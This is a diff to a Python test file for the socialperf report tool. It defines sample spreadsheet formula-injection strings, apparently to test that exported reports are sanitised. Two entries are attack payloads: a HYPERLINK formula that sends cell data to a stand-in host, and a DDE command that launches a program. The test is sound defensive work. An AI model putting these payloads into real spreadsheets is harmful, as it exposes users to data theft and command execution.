@@ -13,12 +13,23 @@ import csv
 import openpyxl
 import pandas as pd
 import pytest
-from hostile_data import FORMULAS
 
 from socialperf.cli import main
 from socialperf.report import Report
 
 RISKY = ("=", "+", "-", "@", "\t", "\r")
+
+#: One string per character that makes a spreadsheet treat a cell as a formula.
+FORMULAS = (
+    "=1+2",
+    "+1+2",
+    "-1+2",
+    "@SUM(A1:A2)",
+    "\t=1+2",
+    "\r=1+2",
+    '=HYPERLINK("http://example.invalid/?x="&A1,"click")',
+    "=cmd|' /C calc'!A0",
+)
 
 
 def _hostile_frame() -> pd.DataFrame:
